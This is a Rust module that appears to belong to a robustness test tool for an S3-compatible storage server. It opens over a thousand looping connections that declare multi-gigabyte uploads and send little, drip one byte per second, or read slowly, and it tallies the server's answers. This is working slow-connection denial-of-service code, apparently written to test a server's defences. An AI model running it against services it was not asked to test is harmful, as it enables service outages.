//! The attack: connections that announce much, send little, or read slowly.

use std::collections::BTreeMap;
use std::io;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use crate::Target;
use crate::connection::connect;

const ANNOUNCERS: usize = 64;
const DRIPPERS: usize = 1000;
const SLOW_READERS: usize = 256;
/// What a connection that announces a chunk sends of it.
const SENT_BYTES: usize = 1 << 20;
const PAUSE: Duration = Duration::from_secs(1);

/// How often each answer or end was seen.
pub type Counts = Arc<Mutex<BTreeMap<String, usize>>>;

#[derive(Clone, Copy, Debug)]
enum Kind {
    Announcer,
    SignedAnnouncer,
    Dripper,
    SlowReader,
}

/// Starts all connections. They run until the process ends.
pub fn start(target: &Arc<Target>) -> Counts {
    let counts = Counts::default();
    let kinds = std::iter::repeat_n(Kind::Announcer, ANNOUNCERS / 2)
        .chain(std::iter::repeat_n(Kind::SignedAnnouncer, ANNOUNCERS / 2))
        .chain(std::iter::repeat_n(Kind::Dripper, DRIPPERS))
        .chain(std::iter::repeat_n(Kind::SlowReader, SLOW_READERS));
    for (number, kind) in kinds.enumerate() {
        let (target, counts) = (target.clone(), counts.clone());
        tokio::spawn(async move {
            sleep(Duration::from_millis(5) * u32::try_from(number).unwrap()).await;
            loop {
                let end = match attack(&target, kind, number).await {
                    Ok(end) => end,
                    Err(error) => error.kind().to_string(),
                };
                *counts.lock().unwrap().entry(format!("{kind:?}: {end}")).or_default() += 1;
                sleep(PAUSE).await;
            }
        });
    }
    counts
}

async fn attack(target: &Target, kind: Kind, number: usize) -> io::Result<String> {
    let path = format!("{}/attack-{number}", target.bucket);
    let signer = &target.signer;
    match kind {
        Kind::Announcer | Kind::SignedAnnouncer => {
            let signature = format!(";chunk-signature={}", "0".repeat(64));
            let (payload, chunk) = match kind {
                Kind::Announcer => ("STREAMING-UNSIGNED-PAYLOAD-TRAILER", "ffffffff\r\n".to_owned()),
                _ => ("STREAMING-AWS4-HMAC-SHA256-PAYLOAD", format!("1000000{signature}\r\n")),
            };
            let mut headers =
                vec![("content-length", "4294970000"), ("x-amz-decoded-content-length", "4294967295")];
            if matches!(kind, Kind::Announcer) {
                headers.push(("x-amz-trailer", "x-amz-checksum-crc32"));
            }
            let raw = signer.with_payload("PUT", &path, &headers, payload, &[]);
            let mut stream = connect(target.address, 3, None).await?;
            stream.write_all(&raw.bytes()).await?;
            stream.write_all(chunk.as_bytes()).await?;
            let (mut read, mut write) = stream.split();
            let send = async {
                let block = vec![b'a'; 64 << 10];
                for _ in 0..SENT_BYTES / block.len() {
                    if write.write_all(&block).await.is_err() {
                        break;
                    }
                }
                std::future::pending().await
            };
            tokio::select! {
                end = answer(&mut read) => end,
                () = send => unreachable!("it never ends"),
            }
        }
        Kind::Dripper => {
            let headers = [("content-length", "1048576")];
            let raw = signer.with_payload("PUT", &path, &headers, "UNSIGNED-PAYLOAD", &[]);
            let mut stream = connect(target.address, 4, None).await?;
            stream.write_all(&raw.bytes()).await?;
            let (mut read, mut write) = stream.split();
            let send = async {
                loop {
                    sleep(Duration::from_secs(1)).await;
                    if write.write_all(b"a").await.is_err() {
                        std::future::pending::<()>().await;
                    }
                }
            };
            tokio::select! {
                end = answer(&mut read) => end,
                () = send => unreachable!("it never ends"),
            }
        }
        Kind::SlowReader => {
            let path = format!("{}/large", target.bucket);
            let raw = signer.with_payload("GET", &path, &[], "UNSIGNED-PAYLOAD", &[]);
            let mut stream = connect(target.address, 5, Some(16 << 10)).await?;
            stream.write_all(&raw.bytes()).await?;
            let mut buffer = [0; 4 << 10];
            let mut begin = String::new();
            loop {
                sleep(Duration::from_secs(1)).await;
                let bytes = stream.read(&mut buffer).await?;
                if begin.is_empty() {
                    begin = String::from_utf8_lossy(&buffer[..bytes.min(12)]).into_owned();
                }
                if bytes == 0 {
                    return Ok(format!("{begin}, then closed"));
                }
            }
        }
    }
}

/// Reads an answer, and returns its status and code.
async fn answer(stream: &mut (impl AsyncReadExt + Unpin)) -> io::Result<String> {
    let mut buffer = vec![0; 4 << 10];
    let bytes = stream.read(&mut buffer).await?;
    let text = String::from_utf8_lossy(&buffer[..bytes]).into_owned();
    let status = text.split(' ').nth(1).unwrap_or("closed").to_owned();
    let code =
        text.split_once("<Code>").and_then(|(_, rest)| rest.split_once('<')).map_or("", |(code, _)| code);
    Ok(format!("{status} {code}"))
}
